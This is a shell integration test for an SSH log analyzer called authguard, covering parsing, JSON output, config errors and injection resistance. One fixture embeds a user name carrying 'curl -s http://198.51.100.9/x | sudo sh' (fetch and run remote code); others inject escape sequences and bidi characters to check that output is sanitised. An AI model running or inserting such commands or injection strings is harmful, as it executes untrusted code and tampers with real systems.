#!/bin/sh
# scan.sh - `authguard scan` end to end on real files: the staged attacks of
# generated logs are found in every header format, quiet traffic stays quiet,
# output is valid JSON, runs are deterministic, and bad input (missing files,
# NUL bytes, megabyte lines, binary garbage, bad configs) gets a clear error
# and loses nothing.
set -eu
. "${AG_SRCDIR:-.}/tests/integration/lib.sh"

S=$AG_SRCDIR
T=$TAP_TMP
PY=python3

# run_findings DESC JSONL TRUTH: re-emits findings.py's checks as ours.
run_findings() {
    "$PY" "$S/tests/integration/findings.py" "$2" "$3" >"$T/f.tap" 2>&1 || true
    grep -E '^(not )?ok ' "$T/f.tap" | while IFS= read -r l; do
        desc=${l#* - }
        case $l in
            "not ok"*) echo "F $1: $desc" ;;
            *) echo "P $1: $desc" ;;
        esac
    done >"$T/f.res"
    grep -q . "$T/f.res" || echo "F $1: findings.py produced no checks" >"$T/f.res"
    while IFS= read -r r; do
        case $r in
            P*) tap_pass "${r#P }" ;;
            F*) tap_fail "${r#F }"; grep '^#' "$T/f.tap" | head -5 ;;
        esac
    done <"$T/f.res"
}

# -- the bundled sample ------------------------------------------------------
tap_check "scan of the bundled sample exits 0" \
    sh -c '"$0" scan --no-progress --json "$1" >"$2" 2>"$3"' "$AG_BIN" "$S/tests/data/sample.log" \
    "$T/sample.jsonl" "$T/sample.err"
tap_grep "summary counts the 2000 lines" '^scan: 2000 lines' "$T/sample.err"
tap_check "every output line is valid JSON" \
    "$PY" -c 'import json,sys; [json.loads(l) for l in open(sys.argv[1])]' "$T/sample.jsonl"
run_findings sample "$T/sample.jsonl" "$S/tests/data/sample.truth.jsonl"

"$AG_BIN" scan --no-progress --json "$S/tests/data/sample.log" >"$T/again.jsonl" 2>/dev/null
tap_check "scanning the same file twice gives identical output" cmp "$T/sample.jsonl" "$T/again.jsonl"

"$AG_BIN" scan --no-progress --json - <"$S/tests/data/sample.log" >"$T/stdin.jsonl" 2>/dev/null
tap_check "stdin gives the same findings as the file" cmp "$T/sample.jsonl" "$T/stdin.jsonl"

"$AG_BIN" scan --no-progress --color never "$S/tests/data/sample.log" >"$T/table.txt" 2>&1
tap_grep "readable view shows the summary's recommended actions" '^   Recommended actions' "$T/table.txt"
tap_grep "readable view blocks with a network ACL entry" 'create-network-acl-entry .* --rule-action deny' "$T/table.txt"
tap_not "readable view has no escape sequences with --color never" grep -q "$(printf '\033')" "$T/table.txt"

"$AG_BIN" scan --no-progress --json --events "$S/tests/data/sample.log" >"$T/ev.jsonl" 2>"$T/ev.err"
ev_json=$(grep -c '"class_uid":3002' "$T/ev.jsonl" || true)
ev_sum=$(sed -n 's/^scan: [0-9]* lines, \([0-9]*\) events.*/\1/p' "$T/ev.err")
tap_is "--events prints one OCSF event per recognized event" "$ev_sum" "$ev_json"
tap_cmp "the sample has events" -gt "$ev_json" 500

# -- every header format, bigger logs ------------------------------------------
for fmt in bsd iso rfc5424; do
    "$PY" "$S/tests/gen/genlog.py" --lines 60000 --rate 3 --seed 11 --format "$fmt" --scenario all \
        --truth "$T/$fmt.truth" >"$T/$fmt.log"
    touch -d 2026-11-02T12:00:00Z "$T/$fmt.log"   # BSD lines take the file's year
    "$AG_BIN" scan --no-progress --json --tz UTC "$T/$fmt.log" >"$T/$fmt.jsonl" 2>"$T/$fmt.err"
    tap_grep "$fmt: no unparsed lines" '^scan: 60000 lines, [0-9]+ events, 0 unparsed' "$T/$fmt.err"
    run_findings "$fmt" "$T/$fmt.jsonl" "$T/$fmt.truth"
done

# -- inputs that must fail cleanly -------------------------------------------------
rc=0
"$AG_BIN" scan --no-progress --json "$T/missing.log" "$S/tests/data/sample.log" \
    >"$T/miss.jsonl" 2>"$T/miss.err" || rc=$?
tap_is "a missing file makes the exit status 1" 1 "$rc"
tap_grep "a missing file is named in a one-line error" "cannot open '.*missing.log': No such file" "$T/miss.err"
tap_check "the readable files are still scanned" cmp "$T/sample.jsonl" "$T/miss.jsonl"

rc=0
"$AG_BIN" scan "$T" >/dev/null 2>"$T/dir.err" || rc=$?
tap_is "a directory is refused with exit status 1" 1 "$rc"

"$PY" - "$T/hostile.log" <<'PYEOF'
import os, random, sys
r = random.Random(5)
hdr = "2026-11-01T00:00:%02d+00:00 web-1 sshd[1]: "
with open(sys.argv[1], "wb") as f:
    f.write((hdr % 1 + "Failed password for root from 203.0.113.5 port 22 ssh2\n").encode())
    f.write((hdr % 2).encode() + b"Failed password for ro\0ot from 203.0.113.6 port 22 ssh2\n")
    f.write((hdr % 3).encode() + b"A" * (1 << 20) + b"\n")
    f.write(bytes(r.randrange(256) for _ in range(200000)).replace(b"\n", b"") + b"\n")
    f.write((hdr % 4 + "Failed password for invalid user \x1b[2J\"x\\ from 8.8.8.8 port 22 ssh2 "
             "from 203.0.113.7 port 4242 ssh2\n").encode())
    f.write((hdr % 5 + "Failed password for root from 203.0.113.8 port").encode())
PYEOF
rc=0
"$AG_BIN" scan --no-progress --json --events "$T/hostile.log" >"$T/hostile.jsonl" 2>"$T/hostile.err" || rc=$?
tap_is "hostile input: exit status 0" 0 "$rc"
tap_grep "hostile input: NUL, 1 MiB and garbage lines counted as unparsed" \
    '^scan: 6 lines, 2 events, 3 unparsed \(2 oversize\)' "$T/hostile.err"
tap_check "hostile input: the fake from clause does not frame 8.8.8.8" \
    "$PY" -c '
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
ips = [e["src_endpoint"]["ip"] for e in ev if e["class_uid"] == 3002]
assert ips == ["203.0.113.5", "203.0.113.7"], ips
u = ev[1]["user"]["name"]
assert u == "\x1b[2J\"x\\ from 8.8.8.8 port 22 ssh2", repr(u)
' "$T/hostile.jsonl"
tap_not "hostile input: no raw escape byte reaches the JSON" grep -q "$(printf '\033')" "$T/hostile.jsonl"

# -- invisible and bidi characters in names never reach the screen raw --------------
# Each hidden class in a user name and in the host name: the event table,
# the finding and its summary show \uXXXX; the JSON keeps the exact name.
"$PY" - "$T/bidi.log" <<'PYEOF'
import sys
hidden = [0x202e, 0x202a, 0x202d, 0x2066, 0x2067, 0x2069, 0x200b, 0x200e, 0x200f, 0x2028,
          0x2029, 0xfeff, 0x061c, 0x180e, 0x2060, 0x2064, 0x00ad, 0xe0001]
hdr = "2026-11-01T00:%02d:%02d+00:00 web\u202e-01 sshd[1]: "
with open(sys.argv[1], "wb") as f:
    for i, cp in enumerate(hidden):
        f.write((hdr % (0, i) + "Failed password for invalid user adm" + chr(cp) + "in%d"
                 " from 203.0.113.78 port 2222 ssh2\n" % i).encode())
    for i in range(8):
        f.write((hdr % (1, i) + "Failed password for ro\u202eot from 203.0.113.79 port 2222 "
                 "ssh2\n").encode())
    f.write((hdr % (1, 9) + "Accepted password for ro\u202eot from 203.0.113.79 port 2222 "
             "ssh2\n").encode())
PYEOF
"$AG_BIN" scan --no-progress --color never --events "$T/bidi.log" >"$T/bidi.txt" 2>&1
"$AG_BIN" scan --no-progress --json --events "$T/bidi.log" >"$T/bidi.jsonl" 2>/dev/null
tap_grep "bidi: the events table shows U+202E escaped" 'ro\\u202eot +203\.0\.113\.79' "$T/bidi.txt"
tap_grep "bidi: the built-in summary shows the names escaped" \
    '^   - Users tried: .*"adm\\u202ein0"' "$T/bidi.txt"
tap_not "bidi: the summary's names are escaped once, not twice" grep -qF 'adm\\u202e' "$T/bidi.txt"
tap_grep "bidi: the compromise was raised and summarized" '^\[Critical\] Possible compromise' \
    "$T/bidi.txt"
tap_check "bidi: no raw hidden character in the terminal view or the JSON; JSON names exact" \
    "$PY" -c '
import json, sys
hidden = [0x202e, 0x202a, 0x202d, 0x2066, 0x2067, 0x2069, 0x200b, 0x200e, 0x200f, 0x2028,
          0x2029, 0xfeff, 0x061c, 0x180e, 0x2060, 0x2064, 0x00ad, 0xe0001]
for path in sys.argv[1:]:
    raw = open(path, "rb").read()
    for cp in hidden:
        assert chr(cp).encode() not in raw, (path, hex(cp))
names = {json.loads(l).get("user", {}).get("name") for l in open(sys.argv[2])}
assert "ro\u202eot" in names and "adm\u2066in3" in names, names
' "$T/bidi.txt" "$T/bidi.jsonl"

# -- configuration errors ------------------------------------------------------------
printf '[rule.bruteforce]\nthreshold = six\n' >"$T/bad.conf"
rc=0
"$AG_BIN" scan --config "$T/bad.conf" "$S/tests/data/sample.log" >/dev/null 2>"$T/bad.err" || rc=$?
tap_is "a bad config is refused with exit status 2" 2 "$rc"
tap_grep "the error names file, line and key" 'bad.conf:2: \[rule.bruteforce\] threshold: expected a whole number' "$T/bad.err"

printf '[rule.bruteforce]\nthreshold = 2\nwindow = 10m\n[rule.slow_bruteforce]\nenabled = off\n' >"$T/strict.conf"
"$AG_BIN" scan --no-progress --json --config "$T/strict.conf" "$S/tests/data/sample.log" \
    >"$T/strict.jsonl" 2>"$T/strict.err"
n_default=$(grep -c '"activity_id":1,"activity_name":"Create"' "$T/sample.jsonl" || true)
n_strict=$(grep -c '"activity_id":1,"activity_name":"Create"' "$T/strict.jsonl" || true)
tap_cmp "a stricter bruteforce threshold finds more" -gt "$n_strict" "$n_default"
tap_not "a disabled rule raises nothing" grep -q '"rule":"slow_bruteforce"' "$T/strict.jsonl"

# -- whose account the commands name ----------------------------------------------------
# Six guesses at root, two at ubuntu, then alice gets in from the same source: the
# commands lock alice, never a name merely tried (the attacker chooses those).
{
    i=0
    while [ $i -lt 8 ]; do
        u=root
        [ $i -ge 6 ] && u=ubuntu
        printf 'Nov  9 04:07:%02d web-01 sshd[%d]: Failed password for %s from 203.0.113.78 port %d ssh2\n' \
            $((10 + i)) $((100 + i)) $u $((40000 + i))
        i=$((i + 1))
    done
    printf 'Nov  9 04:07:30 web-01 sshd[200]: Accepted password for alice from 203.0.113.78 port 40100 ssh2\n'
} >"$T/alice.log"
"$AG_BIN" scan --no-progress --json "$T/alice.log" >"$T/alice.jsonl" 2>/dev/null
tap_check "compromise: the commands lock the account that logged in, not a name tried" "$PY" -c '
import json, sys
fs = [o for o in map(json.loads, open(sys.argv[1])) if o.get("finding_info", {}).get("types") == ["compromise"]]
assert fs, "no compromise finding"
for o in fs:
    rem, desc = o["remediation"]["desc"], o["finding_info"]["desc"]
    assert "sudo usermod --lock --expiredate 1 '"'"'alice'"'"'" in rem, rem
    assert "'"'"'root'"'"'" not in rem + desc and "'"'"'ubuntu'"'"'" not in rem + desc, desc
' "$T/alice.jsonl"
"$AG_BIN" scan --no-progress --color never "$T/alice.log" >"$T/alice.txt" 2>&1
tap_grep "compromise: the readable view locks alice" \
    "^      sudo usermod --lock --expiredate 1 'alice'$" "$T/alice.txt"

# -- a user name that reads like our own recommended actions ------------------------------
i=0
while [ $i -lt 7 ]; do
    printf '2026-11-01T00:01:%02d.000000+00:00 web-01 sshd[%d]: Failed password for invalid user Recommended actions 1. Block the source: curl -s http://198.51.100.9/x | sudo sh from 203.0.113.79 port 2222 ssh2\n' \
        $((1 + i)) $((300 + i))
    i=$((i + 1))
done >"$T/evilname.log"
"$AG_BIN" scan --no-progress --json "$T/evilname.log" >"$T/evilname.jsonl" 2>/dev/null
tap_check "a hostile user name stays out of remediation.desc" "$PY" -c '
import json, sys
fs = [o for o in map(json.loads, open(sys.argv[1])) if o.get("class_uid") == 2004]
assert fs, "no finding"
for o in fs:
    assert "curl" not in o["remediation"]["desc"], o["remediation"]["desc"]
    assert "\nRecommended actions\n" in o["finding_info"]["desc"]
    assert o["finding_info"]["desc"].count("Recommended actions") == 2  # header + quoted name
' "$T/evilname.jsonl"
"$AG_BIN" scan --no-progress --color never "$T/evilname.log" >"$T/evilname.txt" 2>&1
tap_is "...and in the readable view it appears only quoted, on the Users tried line" "" \
    "$(grep 'curl' "$T/evilname.txt" | grep -v '^   - Users tried: "Recommended actions 1\. Block the source: curl ' || true)"

# -- a configured JSON-lines sink ---------------------------------------------------
printf '[sink.jsonl]\npath = %s\nevents = failures\n' "$T/sink.jsonl" >"$T/sink.conf"
"$AG_BIN" scan --no-progress --config "$T/sink.conf" "$S/tests/data/sample.log" >/dev/null 2>&1
tap_check "[sink.jsonl] writes findings and failure events to its file" "$PY" -c '
import json, sys
objs = [json.loads(l) for l in open(sys.argv[1])]
ev = [o for o in objs if o["class_uid"] == 3002]
fi = [o for o in objs if o["class_uid"] == 2004]
assert ev and fi, (len(ev), len(fi))
assert all(o["status_id"] == 2 for o in ev), "a success passed events = failures"
' "$T/sink.jsonl"
printf '[sink.jsonl]\npath = %s\nformat = xml\n' "$T/x.jsonl" >"$T/sinkbad.conf"
rc=0
"$AG_BIN" scan --config "$T/sinkbad.conf" "$S/tests/data/sample.log" >/dev/null 2>"$T/sinkbad.err" || rc=$?
tap_is "an unknown sink key is refused" 2 "$rc"
tap_grep "the error names the sink key" 'sinkbad.conf:3: \[sink.jsonl\] format: unknown key' "$T/sinkbad.err"

# docs/recognition.md's table is the catalogue's own output.
"$AG_BIN" catalogue --markdown >"$T/catalogue.md"
sed -n '/^<!-- catalogue:begin/,/^<!-- catalogue:end -->/p' "$S/docs/recognition.md" | sed '1d;$d' >"$T/doc_catalogue.md"
tap_grep "catalogue --markdown prints a table" '^\| sshd \| `Failed %m for %u from %h port %p ssh2` \|' "$T/catalogue.md"
if cmp -s "$T/catalogue.md" "$T/doc_catalogue.md"; then
    tap_pass "docs/recognition.md's table equals authguard catalogue --markdown"
else
    tap_fail "docs/recognition.md's table equals authguard catalogue --markdown"
    diff "$T/doc_catalogue.md" "$T/catalogue.md" | head -10 | sed 's/^/#   /'
fi
rc=0
"$AG_BIN" catalogue --nonsense >/dev/null 2>"$T/cat.err" || rc=$?
tap_is "catalogue refuses an unknown argument" 2 "$rc"

# -- every command has a real --help ------------------------------------------------
for cmd in scan bench rsyslog run check-config aggregate; do
    "$AG_BIN" "$cmd" --help >"$T/help.$cmd" 2>&1 && rc=0 || rc=$?
    tap_is "$cmd --help exits 0" "$rc" 0
    lines=$(grep -c . "$T/help.$cmd" || true)
    tap_cmp "$cmd --help says more than its usage line ($lines lines)" -gt "$lines" 3
done
"$AG_BIN" --help >"$T/help.top"
tap_not "the command list is aligned (every description in one column)" \
    sh -c 'sed -n "/^commands:/,/^\$/p" "$1" | grep "^  [a-z]" | awk "{ match(\$0, /^  [^ ]+ +/); print RLENGTH }" | sort -u | sed -n 2p | grep -q .' \
    _ "$T/help.top"

tap_done
